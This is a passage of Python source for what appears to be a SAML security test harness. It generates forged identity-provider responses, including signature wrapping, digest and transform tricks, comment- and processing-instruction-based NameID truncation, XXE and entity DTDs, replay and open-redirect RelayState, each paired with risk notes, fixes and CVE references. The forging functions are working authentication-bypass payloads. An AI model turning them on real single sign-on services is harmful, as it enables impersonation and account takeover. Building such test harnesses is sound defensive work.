        digest = forged.find(f"{DS}Reference/{DS}DigestValue")
        assert ref is not None and digest is not None
        ref.set("URI", f"#{evil_id}")
        digest.text = _digest(root, evil_id)
        self._place(sig, genuine, forged)
        return _dump(root)

    def _place(self, sig: etree._Element, genuine: etree._Element, forged: etree._Element) -> None:
        genuine.addnext(forged)


@dataclass(frozen=True)
class SignedInfoInObject(SecondSignedInfo):
    """Like second_signed_info, with the second SignedInfo wrapped in a ``ds:Object`` at
    the end of the Signature (a verifier that looks for References anywhere in it finds it)."""

    attack: str = "signed_info_in_object"

    def _place(self, sig: etree._Element, genuine: etree._Element, forged: etree._Element) -> None:
        etree.SubElement(sig, DS + "Object").append(forged)


@dataclass(frozen=True)
class DigestDocumentWide(_OnSignedAssertion):
    """The genuine signed Assertion changed to name the victim (same ID, signature kept),
    and a ``ds:Reference`` with the changed Assertion's digest placed earlier in the
    document, in ``samlp:Extensions``; the Response signature, if any, removed."""

    attack: str = "digest_document_wide"
    risk: str = (
        "The verifier looks up the DigestValue with a document-wide XPath (``//DigestValue``) "
        "and finds the attacker's before the signed one, so edited content passes as signed."
    )
    fix: str = (
        "Read References and DigestValues only inside the SignedInfo the SignatureValue "
        "covers, or upgrade the SAML library (ruby-saml 1.17.0 / 1.12.3)."
    )
    references: tuple[str, ...] = field(
        default=("CVE-2024-45409", "GHSA-jw9c-mfg7-9rx2"), kw_only=True
    )

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        root = _parse(xml)
        _drop_response_signature(root)
        asrt = _assertion(root)
        _become(asrt, kit)
        genuine = asrt.find(f"{DS}Signature/{DS}SignedInfo/{DS}Reference")
        assert genuine is not None
        forged = copy.deepcopy(genuine)
        digest = forged.find(DS + "DigestValue")
        assert digest is not None
        digest.text = _digest(root, asrt.get("ID", ""))
        _extensions(root).append(forged)
        return _dump(root)


def _without_signatures(root: etree._Element) -> tuple[etree._Element, set[str]]:
    """``root`` with every ds:Signature removed, and which of response / assertion had one."""
    signed = {"response": _own_signature(root) is not None}
    signed["assertion"] = _own_signature(_assertion(root)) is not None
    for sig in list(root.iter(DS + "Signature")):
        parent = sig.getparent()
        assert parent is not None
        parent.remove(sig)
    return root, {k for k, v in signed.items() if v}


def _idp_signs_by_hand(
    xml: bytes, kit: Kit, transforms: Sequence[ExtraTransform] = (), references: int = 1
) -> etree._Element:
    """The IdP's genuine response signed again by the IdP — the same elements, the content
    untouched — with a SignedInfo Okta never writes (``transforms``, ``references``).

    Only genuine content is ever signed here: a forgery edits the result afterwards.
    """
    root, signed = _without_signatures(_parse(xml))
    pair = kit.idp.keypair
    if "assertion" in signed:
        root = sign_by_hand(
            root,
            _assertion(root).get("ID", ""),
            pair.private_key,
            pair.cert_b64,
            transforms=transforms,
            references=references,
        )
    if "response" in signed:
        root = sign_by_hand(
            root,
            root.get("ID", ""),
            pair.private_key,
            pair.cert_b64,
            transforms=transforms,
            references=references,
        )
    return root


_XSLT = "http://www.w3.org/TR/1999/REC-xslt-19991116"
_XPATH = "http://www.w3.org/TR/1999/REC-xpath-19991116"
_NS_XSL = "http://www.w3.org/1999/XSL/Transform"


def xslt_transform() -> ExtraTransform:
    """An XSLT transform whose stylesheet copies its input but the AuthnContext (harmless: it
    reads and writes nothing else). The digest is over its output, so only a verifier that
    runs the stylesheet computes it; one that skips the transform computes another."""
    el = etree.Element(DS + "Transform", nsmap={"ds": NS_DS})
    el.set("Algorithm", _XSLT)
    xsl = f"{{{_NS_XSL}}}"
    sheet = etree.SubElement(el, xsl + "stylesheet", nsmap={"xsl": _NS_XSL})
    sheet.set("version", "1.0")
    copy_all = etree.SubElement(sheet, xsl + "template")
    copy_all.set("match", "@*|node()")
    copy_el = etree.SubElement(copy_all, xsl + "copy")
    etree.SubElement(copy_el, xsl + "apply-templates").set("select", "@*|node()")
    # No prefix: a verifier may copy the stylesheet out of the document, without the
    # namespace declarations of its ancestors.
    etree.SubElement(sheet, xsl + "template").set("match", "*[local-name()='AuthnContext']")

    def effect(signed: etree._Element) -> None:
        for node in list(signed.iter(A + "AuthnContext")):
            parent = node.getparent()
            if parent is not None:
                parent.remove(node)

    return ExtraTransform(el, effect)


#: What the XPath filter leaves out of the signed content: the identity an app reads.
IDENTITY_NODES = ("NameID", "AttributeValue")


def xpath_identity_filter() -> ExtraTransform:
    """An XPath filter transform that leaves every NameID and AttributeValue (and what they
    hold) out of the signed content."""
    el = etree.Element(DS + "Transform", nsmap={"ds": NS_DS})
    el.set("Algorithm", _XPATH)
    names = " or ".join(f"local-name()='{name}'" for name in IDENTITY_NODES)
    # No prefix, as in the stylesheet above.
    etree.SubElement(el, DS + "XPath").text = f"not(ancestor-or-self::*[{names}])"

    def effect(signed: etree._Element) -> None:
        for name in IDENTITY_NODES:
            for node in list(signed.iter(A + name)):
                parent = node.getparent()
                if parent is not None:
                    parent.remove(node)

    return ExtraTransform(el, effect)


@dataclass(frozen=True)
class XsltTransform(Mutator):
    """The victim's response signed by the IdP with an XSLT transform in each Reference
    (a stylesheet that copies all but the AuthnContext), besides enveloped-signature and
    exclusive c14n: only a verifier that runs the stylesheet finds the digest right."""

    attack: str = "xslt_transform"
    risk: str = (
        "The verifier runs an XSLT stylesheet from the message — code the attacker writes, "
        "run before the signature is known to be good (XSLT can read files, reach hosts, or "
        "loop forever in some processors)."
    )
    fix: str = (
        "Accept only the transforms Okta uses (enveloped-signature and exclusive c14n) and "
        "refuse any other before computing a digest."
    )

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        return _dump(_idp_signs_by_hand(xml, kit, [xslt_transform()]))


@dataclass(frozen=True)
class XpathFilterTransform(_Forgery):
    """The attacker's genuine response signed by the IdP with an XPath filter transform
    that leaves NameID and AttributeValues out of what is signed; then the NameID and
    attributes changed to the victim's."""

    attack: str = "xpath_filter_transform"
    risk: str = (
        "The verifier honours a transform that changes what is signed: the identity is "
        "outside the signed content and anyone holding a response can change it."
    )
    fix: str = XsltTransform.fix

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        root = _idp_signs_by_hand(xml, kit, [xpath_identity_filter()])
        _become(root, kit)
        return _dump(root)


@dataclass(frozen=True)
class SeveralReferences(Mutator):
    """The victim's response signed by the IdP with two References in each SignedInfo (both
    naming the signed element)."""

    attack: str = "several_references"
    risk: str = (
        "SAML allows exactly one Reference per signature; a verifier that loops over several "
        "can check one and let the app read another (goxmldsig before 1.6.0 kept the last)."
    )
    fix: str = (
        "Refuse a signature whose SignedInfo holds more or fewer than one Reference "
        "(SAML core 5.4.2), or upgrade the XML-DSig library."
    )
    references: tuple[str, ...] = field(
        default=("CVE-2026-33487", "GHSA-479m-364c-43vc"), kw_only=True
    )

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        return _dump(_idp_signs_by_hand(xml, kit, references=2))


@dataclass(frozen=True)
class SignedLogoutResponseReuse(_Forgery):
    """A Response for the victim (unsigned) whose Assertion's ``saml2:Advice`` holds a
    LogoutResponse genuinely signed by the IdP."""

    attack: str = "signed_logout_response_reuse"
    risk: str = (
        "The app accepts any signature by the IdP's key anywhere in the message, so any "
        "document the IdP ever signed (a LogoutResponse, metadata) vouches for a forged "
        "assertion."
    )
    fix: str = (
        "Require the signature to cover the Response or the Assertion you read (its "
        "Reference names that element, its parent), and read only that element."
    )
    references: tuple[str, ...] = field(default=("CVE-2024-6800",), kw_only=True)

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        root, _ = _without_signatures(_parse(xml))
        root.set("ID", new_id())
        asrt = _assertion(root)
        asrt.set("ID", new_id())
        _become(root, kit)
        advice = etree.Element(A + "Advice")
        advice.append(_parse(self._artefact(root, kit)))
        conditions = asrt.find(A + "Conditions")
        assert conditions is not None
        conditions.addnext(advice)
        return _dump(root)

    def _artefact(self, root: etree._Element, kit: Kit) -> bytes:
        from urllib.parse import urljoin

        slo = urljoin(root.get("Destination") or "https://sp.example/", "/saml/slo")
        return kit.idp.signed_logout_response(slo, new_id())


@dataclass(frozen=True)
class SignedMetadataReuse(SignedLogoutResponseReuse):
    """A Response for the victim (unsigned) whose Assertion's ``saml2:Advice`` holds the
    IdP's metadata signed by the IdP key (as IdPs that sign their metadata publish it)."""

    attack: str = "signed_metadata_reuse"

    def _artefact(self, root: etree._Element, kit: Kit) -> bytes:
        return kit.idp.signed_metadata_xml()


@dataclass(frozen=True)
class CommentInNameID(_Forgery):
    """Genuine response for ``<victim>.evil.test``; a comment splits the NameID after the victim.

    Exclusive c14n without comments drops the comment, so the signature stays valid; an app
    that reads only the first text node signs in the victim (CVE-2017-11427 and relatives).
    """

    attack: str = "comment_in_nameid"
    risk: str = "The app reads the NameID's first text node and signs in a truncated identity."
    fix: str = "Read the NameID's full text content (all text nodes), or upgrade the SAML library."
    references: tuple[str, ...] = field(
        default=(
            "CVE-2017-11427",
            "CVE-2017-11428",
            "CVE-2017-11429",
            "CVE-2017-11430",
            "CVE-2018-0489",
        ),
        kw_only=True,
    )

    def content(self, spec: ResponseSpec, kit: Kit) -> ResponseSpec:
        # The attacker's own account is ``<victim's address>.evil.test`` (a domain they
        # own): that is the NameID and every e-mail-like attribute Okta sends for them.
        own = set(kit.identity_values())
        victim = dict(kit.victim_attributes)
        attributes = tuple(
            (
                name,
                tuple(
                    victim_value + EVIL_SUFFIX if victim_value in own else value
                    for value, victim_value in zip(values, victim.get(name, values), strict=False)
                ),
            )
            for name, values in spec.attributes
        )
        return replace(spec, nameid=kit.victim + EVIL_SUFFIX, attributes=attributes)

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        root = _parse(xml)
        own = {value + EVIL_SUFFIX: value for value in kit.identity_values()}
        for el in (*root.iter(A + "NameID"), *root.iter(A + "AttributeValue")):
            if el.text in own and len(el) == 0:
                el.text = own[el.text]
                self._split(el)
        return _dump(root)

    def _split(self, el: etree._Element) -> None:
        """After the victim's value: an empty comment, then the attacker's suffix as text."""
        comment = etree.Comment("")
        comment.tail = EVIL_SUFFIX
        el.append(comment)


@dataclass(frozen=True)
class PiInNameID(CommentInNameID):
    """Genuine response for ``<victim>.evil.test``; the suffix moved into a processing
    instruction, ``<victim><?x .evil.test?>``.

    Exclusive c14n keeps a processing instruction, so a correct verifier computes another
    digest and refuses. xml-crypto's c14n writes a processing instruction's data as text —
    the signed bytes are unchanged — and a reader that skips processing instructions
    (xml2js, a DOM's text nodes) reads the victim (node-saml before 5.1.0, CVE-2025-54419).
    """

    attack: str = "pi_in_nameid"
    risk: str = (
        "The app checks the signature over one reading of the XML and takes the NameID from "
        "another, which drops a processing instruction: it signs in a truncated identity."
    )
    fix: str = (
        "Read the identity only from what the signature verified (the canonical signed "
        "bytes), use a maintained XML-DSig library, or upgrade the SAML library."
    )
    references: tuple[str, ...] = field(
        default=("CVE-2025-54419", "GHSA-4mxg-3p6v-xgq3"), kw_only=True
    )

    def _split(self, el: etree._Element) -> None:
        el.append(etree.ProcessingInstruction("x", EVIL_SUFFIX))


def _doctype(root: etree._Element, subset: str = "") -> str:
    name = root.tag.split("}")[-1]
    qname = f"{root.prefix}:{name}" if root.prefix else name
    return f"<!DOCTYPE {qname}{f' [{subset}]' if subset else ''}>"


@dataclass(frozen=True)
class DtdExternalEntity(Mutator):
    """The victim's genuine response behind a DOCTYPE whose external entity points at the
    harness's loopback canary (referenced in the NameID; the canary answers nothing, so an
    app that fetches it reads the genuine NameID)."""

    attack: str = "dtd_external_entity"
    risk: str = (
        "XXE: the app resolves entities, so responses can read files or reach internal hosts."
    )
    fix: str = "Parse SAML with DTDs and entity resolution disabled and refuse any DOCTYPE."
    references: tuple[str, ...] = field(default=("CVE-2016-10149",), kw_only=True)

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        root = _parse(xml)
        doctype = _doctype(root, f'<!ENTITY oin SYSTEM "{kit.canary_url}">')
        body = _dump(root).decode()
        body = body.replace(f">{kit.victim}</", f">&oin;{kit.victim}</", 1)
        return (doctype + body).encode()


@dataclass(frozen=True)
class DtdInternalEntity(Mutator):
    """The victim's genuine response behind a DOCTYPE declaring an internal entity that holds
    the victim's NameID; the NameID element says ``&who;``.

    Only a parser that reads the DTD and expands entities sees the signed content again (and
    signs the victim in): the same parser expands entity bombs and lets a signature verify
    text the application never shows.
    """

    attack: str = "dtd_internal_entity"
    risk: str = (
        "The app's XML parser expands DTD entities: entity expansion bombs exhaust it, and "
        "signed text and read text can differ (entity-based signature bypasses)."
    )
    fix: str = DtdExternalEntity.fix

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        root = _parse(xml)
        doctype = _doctype(root, f'<!ENTITY who "{kit.victim}">')
        body = _dump(root).decode()
        body = body.replace(f">{kit.victim}</", ">&who;</")
        return (doctype + body).encode()


@dataclass(frozen=True)
class DoctypeOnly(Mutator):
    """The victim's genuine response behind a bare DOCTYPE (no entities at all)."""

    attack: str = "doctype_only"
    risk: str = (
        "The app accepts a DOCTYPE in a SAML response; SAML messages never carry one, and a "
        "parser that allows it is one setting away from entity expansion and XXE."
    )
    fix: str = DtdExternalEntity.fix

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        root = _parse(xml)
        return (_doctype(root) + _dump(root).decode()).encode()


@dataclass(frozen=True)
class Replay(Mutator):
    """The same accepted response posted a second time (from another browser)."""

    attack: str = "replay"
    risk: str = "A captured response (proxy log, browser history) signs its holder in again."
    fix: str = "Remember assertion IDs until their NotOnOrAfter and refuse a second use."

    @property
    def replay(self) -> bool:
        return True


@dataclass(frozen=True)
class RelayStateOpenRedirect(Mutator):
    """A valid response whose RelayState is an off-site URL."""

    attack: str = "relay_state_open_redirect"
    risk: str = "Open redirect: a trusted sign-in hands users on to a phishing site."
    fix: str = "Follow RelayState only to paths on your own site; otherwise go to the home page."

    target: str = EVIL_URL

    @property
    def relay_state(self) -> str | None:
        return self.target


@dataclass(frozen=True)
class RelayStateProtocolRelative(RelayStateOpenRedirect):
    """A valid response whose RelayState is a protocol-relative off-site URL (``//host``)."""

    attack: str = "relay_state_protocol_relative"
    target: str = "//evil.example/phish"


@dataclass(frozen=True)
class ContentChange(Mutator):
    """A validation case: the IdP, holding its key, signs content that is wrong in one way
    (``change``) for the victim; :data:`CONTENT_CHANGES` holds them all."""

    what: str = ""
    change: Callable[[ResponseSpec, Kit], ResponseSpec] = field(
        default=lambda spec, kit: spec, repr=False
    )

    @property
    def summary(self) -> str:
        return self.what

    def content(self, spec: ResponseSpec, kit: Kit) -> ResponseSpec:
        return self.change(spec, kit)


_RECIPIENT_RISK = "A response addressed to another app's ACS is accepted here."
_ISSUER_FIX = "Require an Issuer equal to the configured IdP entity ID."

#: attack -> (what, risk, fix, change): every validation case of the catalogue.
CONTENT_CHANGES: dict[str, ContentChange] = {
    c.attack: c
    for c in (
        ContentChange(
            "unsigned",
            "Anyone can sign in as anyone by posting a hand-written response.",
            "Require a valid signature by the configured IdP certificate on the Response or "
            "Assertion.",
            "A response with no signature anywhere, naming the victim.",
            lambda spec, kit: replace(spec, sign="none"),
        ),
        ContentChange(
            "expired",
            "Old responses stay usable forever.",
            "Refuse responses whose NotOnOrAfter has passed (allow at most a few minutes of skew).",
            "Every time window closed hours ago (Conditions and SubjectConfirmationData).",
            lambda spec, kit: spec.shifted(-HOURS_AWAY),
        ),
        ContentChange(
            "not_yet_valid",
            "Responses minted for the future can be stockpiled.",
            "Refuse responses whose NotBefore is in the future (beyond a few minutes of skew).",
            "Every time window opens hours from now.",
            lambda spec, kit: spec.shifted(HOURS_AWAY),
        ),
        ContentChange(
            "wrong_audience",
            "A response meant for another app (maybe malicious) signs users in here.",
            "Require the Audience to equal your SP entity ID.",
            "Audience is another service provider's entity ID.",
            lambda spec, kit: replace(spec, audience=f"{OTHER_SP}/saml/metadata"),
        ),
        ContentChange(
            "wrong_recipient",
            _RECIPIENT_RISK,
            "Require SubjectConfirmationData/@Recipient to equal your ACS URL exactly.",
            "SubjectConfirmationData Recipient is another app's ACS URL.",
            lambda spec, kit: replace(spec, recipient=f"{OTHER_SP}/saml/acs"),
        ),
        ContentChange(
            "lookalike_recipient",
            _RECIPIENT_RISK,
            "Require SubjectConfirmationData/@Recipient to equal your ACS URL exactly.",
            "Recipient is an attacker URL that contains the ACS URL (passes a substring test).",
            lambda spec, kit: replace(spec, recipient=f"{EVIL_URL}?next={spec.recipient}"),
        ),
        ContentChange(
            "wrong_destination",
            "A response sent to another app is accepted here.",
            "When Destination is present, require it to equal your ACS URL exactly.",
            "Response Destination is another app's ACS URL.",
            lambda spec, kit: replace(spec, destination=f"{OTHER_SP}/saml/acs"),
        ),
        ContentChange(
            "lookalike_destination",
            "A response sent to another app is accepted here.",
            "When Destination is present, require it to equal your ACS URL exactly.",
            "Destination is the ACS URL with a suffix (passes a prefix test, fails an exact one).",
            lambda spec, kit: replace(
                spec, destination=(spec.destination or spec.recipient) + ".evil.example/acs"
            ),
        ),
        ContentChange(
            "wrong_issuer",
            "Responses from another IdP (another customer's Okta) sign users in here.",
            "Require the Issuer to equal the configured IdP entity ID.",
            "Issuer is another Okta app instance (another tenant's IdP).",
            lambda spec, kit: replace(spec, issuer="http://www.okta.com/exkOtherTenant0000001"),
        ),
        ContentChange(
            "missing_issuer",
            "The app cannot tell which IdP issued the response.",
            _ISSUER_FIX,
            "No Issuer element in the Response or the Assertion.",
            lambda spec, kit: replace(spec, issuer=None),
        ),
        ContentChange(
            "no_bearer_confirmation",
            "Assertions meant for other uses (no bearer confirmation) sign users in.",
            "Require a bearer SubjectConfirmation whose Recipient and NotOnOrAfter check out.",
            "The assertion has no SubjectConfirmation (so no bearer Recipient or expiry).",
            lambda spec, kit: replace(spec, bearer=False),
        ),
        ContentChange(
            "non_success_status",
            "The app signs users in from an error response.",
            "Refuse responses whose top-level StatusCode is not ...:status:Success.",
            "A signed assertion inside a Response whose StatusCode is Requester (an error).",
            lambda spec, kit: replace(spec, status=STATUS_REQUESTER),
        ),
        ContentChange(
            "unknown_in_response_to",
            "Responses to other sessions' requests (or stolen ones) are accepted.",
            "When InResponseTo is present, require it to match a request this session sent.",
            "InResponseTo names an AuthnRequest the app never sent.",
            lambda spec, kit: replace(spec, in_response_to=new_id()),
        ),
        ContentChange(
            "sha1_signature",
            "SHA-1 is broken for collision resistance; the OIN requires SHA-256.",
            "Reject rsa-sha1 / sha1 (python3-saml: security.rejectDeprecatedAlgorithm = true).",
            "Signed with RSA-SHA1 and a SHA-1 digest (otherwise valid).",
            lambda spec, kit: replace(spec, sha1=True),
        ),
    )
}

CATALOGUE: tuple[Mutator, ...] = (
    CONTENT_CHANGES["unsigned"],
    StrippedSignature(),
    TamperedAfterSigning(),
    UntrustedKey(),
    ClonedCertificate(),
    OtherTenant(),
    HmacKeyConfusion(),
    HmacKeyConfusionBase64(),
    HmacKeyConfusionDer(),
    HmacKeyConfusionPublicKey(),
    KeyValueKey(),
    HmacKeyInMessage(),
    CommentInDigestValue(),
    SecondSignedInfo(),
    SignedInfoInObject(),
    DigestDocumentWide(),
    SeveralReferences(),
    XsltTransform(),
    XpathFilterTransform(),
    XSW1(),
    XSW2(),
    XSW3(),
    XSW4(),
    XSW5(),
    XSW6(),
    XSW7(),
    XSW8(),
    *(_unwrapped(m) for m in (XSW3(), XSW4(), XSW5(), XSW6(), XSW7(), XSW8())),
    ExtraUnsignedAssertionBefore(),
    ExtraUnsignedAssertionAfter(),
    DuplicateIds(),
    SignedResponseNested(),
    SignedResponseNestedFirstSignature(),
    ResponseInAdvice(),
    SeveralRoots(),
    SignedLogoutResponseReuse(),
    SignedMetadataReuse(),
    CommentInNameID(),
    PiInNameID(),
    DtdExternalEntity(),
    DtdInternalEntity(),
    DoctypeOnly(),
    Replay(),
    CONTENT_CHANGES["expired"],
    CONTENT_CHANGES["not_yet_valid"],
    CONTENT_CHANGES["wrong_audience"],
    CONTENT_CHANGES["wrong_recipient"],
    CONTENT_CHANGES["lookalike_recipient"],
    CONTENT_CHANGES["wrong_destination"],
    CONTENT_CHANGES["lookalike_destination"],
    CONTENT_CHANGES["wrong_issuer"],
    CONTENT_CHANGES["missing_issuer"],
    CONTENT_CHANGES["no_bearer_confirmation"],
    CONTENT_CHANGES["non_success_status"],
    CONTENT_CHANGES["unknown_in_response_to"],
    CONTENT_CHANGES["sha1_signature"],
    RelayStateOpenRedirect(),
    RelayStateProtocolRelative(),
)


def by_name(name: str) -> Mutator:
    for m in CATALOGUE:
        if m.attack == name:
            return m
    raise KeyError(name)


def signed_content(mutator: Mutator, base: ResponseSpec, kit: Kit) -> ResponseSpec:
    """What the IdP signs for this attack: the attacker's own genuine response (NameID and
    attributes) for a forgery, the victim's for a validation case, then ``content``."""
    if mutator.forgery:
        start = replace(base.fresh(), nameid=kit.attacker)
        if kit.attacker_attributes:
            start = replace(start, attributes=kit.attacker_attributes)
    else:
        start = replace(base.fresh(), nameid=kit.victim)
    return mutator.content(start, kit)


def apply(mutator: Mutator, base: ResponseSpec, kit: Kit) -> bytes:
    """The hostile response: genuine content for attacker or victim, changed, signed, forged."""
    return mutator.forge(kit.idp.sign(signed_content(mutator, base, kit)), kit)


def names(mutators: Sequence[Mutator] = CATALOGUE) -> list[str]:
    return [m.attack for m in mutators]
